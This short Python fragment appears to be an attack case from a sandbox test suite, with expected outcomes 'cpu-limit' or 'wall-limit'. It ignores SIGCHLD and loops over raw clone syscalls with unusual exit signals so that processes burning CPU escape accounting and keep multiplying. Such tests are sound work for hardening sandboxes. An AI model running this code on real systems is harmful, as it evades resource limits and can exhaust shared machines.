# attack: {"tries": "hides processor time in generations that end without being waited for, until no more can be", "outcomes": ["cpu-limit", "wall-limit"], "done": false}
attempt("without zombies", lambda: libc.signal(signal.SIGCHLD, ctypes.c_void_p(1)) and None)
for end_signal in (0, 17, 10):
    if os.fork() == 0:
        while True:
            until = time.process_time() + 0.005
            while time.process_time() < until:
                pass
            # clone with another signal for its end than fork's.
            if libc.syscall(56, ctypes.c_long(end_signal), 0, 0, 0, 0) != 0:
                os._exit(0)
while True:
    time.sleep(1)
